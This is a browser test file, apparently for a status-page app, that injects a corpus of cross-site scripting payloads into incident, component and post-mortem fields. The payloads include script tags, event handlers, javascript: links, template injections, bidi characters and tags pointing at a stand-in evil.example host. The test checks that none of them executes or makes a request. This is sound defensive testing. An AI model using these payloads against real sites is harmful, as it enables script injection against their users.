// Whatever a source writes is words: nothing of it runs, leads anywhere it should not, or turns what stands
// around it; and the strict policy has nothing to report.
import { expect, open, test } from "./support.mjs";
import { CALM, hosted, update } from "./served-page.mjs";

const CORPUS = [
  "<script>window.broken=1</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<img src=x onerror=window.broken=1>",
  "<svg onload=window.broken=1><animate onbegin=window.broken=1></svg>",
  "<svg><script>window.broken=1</script></svg>",
  "<iframe srcdoc='<script>parent.broken=1</script>'></iframe>",
  "<style>body{display:none}</style>",
  "<p style='position:fixed;inset:0'>over everything</p>",
  "<a href=\"javascript:window.broken=1\">one</a>",
  "<a href=\"JaVaScRiPt:window.broken=1\">two</a>",
  "<a href=\"java\tscr\nipt:window.broken=1\">three</a>",
  "<a href=\"&#106;avascript:window.broken=1\">four</a>",
  "<a href='data:text/html,<script>parent.broken=1</script>'>five</a>",
  "<a href='https://ok.example' onclick='window.broken=1' onmouseover=window.broken=1>six</a>",
  "[seven](javascript:window.broken=1)",
  "{{constructor.constructor('window.broken=1')()}} ${window.broken=1} <%= 1 %>",
  "\u202eevil\u202c \u2066isolated\u2069 &#x202e;too",
  "</div></article></main></body><base href=//evil.example>",
  "<form action=//evil.example><input name=q autofocus onfocus=window.broken=1><button>go</button></form>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  `${"<div>".repeat(3000)}deep${"</div>".repeat(3000)}`,
  "<b <i <script>window.broken=1//",
];

const AT = "2026-03-10T13:30:00Z";
const ATTACKS = CORPUS.map((text, number) => ({
  id: `x${number}`, name: `${number} ${text}`, status: "investigating", impact: text, created_at: AT, updated_at: AT, components: null,
  incident_updates: [
    // Markup that is split over updates stays apart.
    update(`b${number}`, text, "2026-03-10T13:50:00Z", "window.broken=1</script> -->"),
    update(`a${number}`, "investigating", AT, `${text} <script> <!--`),
  ],
}));
const OVER = {
  ...ATTACKS[0], id: "over", name: CORPUS[2], status: "resolved", impact: "minor", postmortem_published_at: AT,
  postmortem_body: CORPUS.join("\r\n\r\n"),
  incident_updates: [update("z", "resolved", AT, CORPUS.join("<br>"))],
};
const PAGE = {
  ...CALM,
  components: CORPUS.flatMap((text, number) => [
    { id: `g${number}`, name: text, status: "operational", group: true, group_id: null, position: number },
    { id: `c${number}`, name: text, description: text, status: text, group: false, group_id: `g${number}`, position: number },
  ]),
  incidents: ATTACKS,
  scheduled_maintenances: [{ ...ATTACKS[1], id: "m", status: "scheduled", scheduled_for: AT, scheduled_until: AT }],
  status: { indicator: CORPUS[0], description: CORPUS[2] },
};

test.use({ allowed: /Failed to load resource/ });

test("nothing that a source writes does anything", async ({ page, context }) => {
  await context.addInitScript(() => {
    globalThis.violations = [];
    document.addEventListener("securitypolicyviolation", (event) => {
      globalThis.violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
    });
  });
  const away = [];
  context.on("request", (request) => { if (/evil|ok\.example/.test(request.url())) away.push(request.url()); });
  await hosted(context, { summary: PAGE, incidents: { incidents: [...ATTACKS, OVER] } });
  for (const [path, there] of [["/", "Active incidents"], ["/history", "March 2026"], ["/incidents/over", "Post-mortem"], ["/incidents/x0", "Updates"]]) {
    await open(page, path);
    await expect(page.getByRole("heading", { level: 2, name: there })).toBeVisible();
    const found = await page.evaluate(() => {
      const main = document.querySelector("main");
      return {
        broken: globalThis.broken,
        violations: globalThis.violations,
        elements: main.querySelectorAll("script, img, iframe, style, form:not([role=search]), base, meta, object, [style], [onerror], [onload], [onclick]").length,
        odd: [...main.querySelectorAll("a[href]")].map((link) => link.protocol).filter((is) => !/^(https?|mailto):$/.test(is)),
        turned: /[\u202a-\u202e\u2066-\u2069]/.test(document.body.textContent + document.title),
        wide: document.documentElement.scrollWidth > innerWidth,
      };
    });
    expect(found, path).toEqual({ broken: undefined, violations: [], elements: 0, odd: [], turned: false, wide: false });
    const texts = page.locator(".timeline-text, .article-text");
    if (path !== "/history") expect(await texts.count()).toBeGreaterThan(0);
    for (const shown of await texts.allTextContents()) expect(shown).not.toMatch(/<\/?(script|img|svg|iframe|p|a|div|b)\b[^<]*>/i);
  }
  expect(away).toEqual([]);
});
